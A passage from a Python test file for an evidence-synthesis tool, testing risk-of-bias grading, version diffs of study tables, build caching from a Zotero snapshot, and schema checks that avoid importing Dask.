    findings = evidence.outcomes[evidence.outcomes["study_id"].isin(["AAAAAAAA", "BBBBBBBB"])]
    overall = evidence.studies.set_index("study_id").loc[["AAAAAAAA", "BBBBBBBB"], "risk_of_bias"]
    assert all(o.startswith("high (RoB 2") for o in overall)  # the overall of each section, as the chain reads it
    step = certainty_chain(findings, evidence.studies).steps[0]
    assert (step.domain, step.judgement, step.change) == ("risk of bias", "very serious", -2)
    assert "2 of 2 at high risk" in step.reason and "0 of 2 not assessed" in step.reason


def test_changes_between_tables_column_by_column_name_what_row_by_row_named() -> None:
    """The diff of two versions' tables (vectorised for 50,000 findings) names exactly the rows a row-by-row
    comparison names: added, removed, updated in any column, and a column added since is no change by itself."""
    from evidencebook._evidence import _diff_rows, _diff_rows_by_record, changes_between

    rng = np.random.default_rng(7)
    for trial in range(30):
        n = int(rng.integers(0, 40))
        old = pd.DataFrame({"finding_id": [f"F{i}" for i in range(n)], "a": rng.choice(["x", "y", ""], n),
                            "b": rng.choice(["1", "2"], n)})
        new = old.sample(frac=float(rng.uniform(0.5, 1)), random_state=trial).copy()
        new.loc[new.sample(frac=0.2, random_state=trial).index, "a"] = "changed"
        extra = pd.DataFrame({"finding_id": [f"N{trial}-{i}" for i in range(int(rng.integers(0, 4)))], "a": "z", "b": "3"})
        new = pd.concat([new, extra], ignore_index=True)
        if trial % 3 == 0:
            new["c"] = "added column"
        columns = [c for c in new.columns if not len(old) or c in old.columns]
        assert _diff_rows(old, new, "finding_id") == _diff_rows_by_record(old, new, "finding_id", columns), trial
    first = pd.DataFrame({"finding_id": ["F2", "F1"], "a": ["x", "y"]})
    assert _diff_rows(pd.DataFrame(), first, "finding_id") == {"added": ["F1", "F2"], "updated": [], "removed": []}
    studies = "study_id,citation_key\nA,a2020\nB,b2021\n"
    same = {"studies.csv": studies, "outcomes.csv": "finding_id,study_id\nF1,A\n"}
    assert changes_between(same, dict(same)) == {
        "studies": {"added": [], "updated": [], "removed": []},
        "outcomes": {"added": [], "updated": [], "removed": []}, "citation_keys": {}}
    moved = changes_between(same, {"studies.csv": "study_id,citation_key\nA,a2020x\nC,c2022\n",
                                   "outcomes.csv": "finding_id,study_id\nF1,C\nF2,C\n"})
    assert moved == {"studies": {"added": ["C"], "updated": ["A"], "removed": ["B"]},
                     "outcomes": {"added": ["F2"], "updated": ["F1"], "removed": []},
                     "citation_keys": {"A": "a2020x", "B": "b2021", "C": "c2022"}}


def test_a_build_from_an_unchanged_snapshot_derives_nothing_and_any_change_derives_again(
        project: eb.Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """At 10,000 studies deriving the tables took 20 s of every `evidencebook build`, though a sync had just
    written them from the same snapshot."""
    import evidencebook._evidence as evidence_module
    from evidencebook._zotero import read_snapshot

    derived = []
    real = evidence_module._derive
    monkeypatch.setattr(evidence_module, "_derive", lambda *a: derived.append(1) or real(*a))
    first = eb.build_evidence(project)
    assert len(derived) == 1
    again = eb.build_evidence(project)
    assert len(derived) == 1  # nothing derived
    assert again.changed == [] and again.manifest == first.manifest
    assert [str(p) for p in again.problems] == [str(p) for p in first.problems]
    assert again.changes["studies"] == {"added": [], "updated": [], "removed": []}
    # A table edited by hand: derived again, and put back.
    studies = project.evidence / "studies.csv"
    written = studies.read_bytes()
    studies.write_bytes(written.replace(b"Lloyd-Evans", b"Lloyd-Evens", 1))
    assert eb.build_evidence(project).changed == ["studies.csv"] and len(derived) == 2
    assert studies.read_bytes() == written
    eb.build_evidence(project)
    assert len(derived) == 2
    # An item of the snapshot edited: derived again.
    item = sorted((project.snapshot / "items").glob("*.json"))[0]
    item.write_text(item.read_text(encoding="utf-8").replace('"version"', '"version" ', 1), encoding="utf-8")
    eb.build_evidence(project)
    assert len(derived) == 3
    # A sync writes the snapshot and the tables it derived: the build after it derives nothing.
    eb.build_evidence(project, read_snapshot(project.snapshot), write_snapshot=True)
    assert len(derived) == 4
    eb.build_evidence(project)
    assert len(derived) == 4
    # A dry run always derives (it reports what a build would write).
    eb.build_evidence(project, dry_run=True)
    assert len(derived) == 5


def test_checking_the_tables_never_looks_for_dask() -> None:
    """pandera looks for Dask's dataframe types when it builds a schema (half a second of every sync); the
    declared schemas are built for pandas only, and still reject a bad table."""
    code = ("import sys, pandas as pd, pandera.errors, evidencebook._schemas as s\n"
            "for model in (s.StudySchema, s.OutcomeSchema, s.PolicyFactSchema, s.RegionSchema, s.RiskOfBiasSchema):\n"
            "    model.to_schema()\n"
            "try:\n"
            "    s.RegionSchema.validate(pd.DataFrame({'region_id': ['Not An Id'], 'name': ['x'], 'kind': ['state'],"
            " 'state_code': ['OR']}))\n"
            "except pandera.errors.SchemaError:\n"
            "    print('rejected')\n"
            "print(sorted(m for m in sys.modules if m == 'dask' or m.startswith('dask.')))\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.split("\n")[:2] == ["rejected", "[]"]
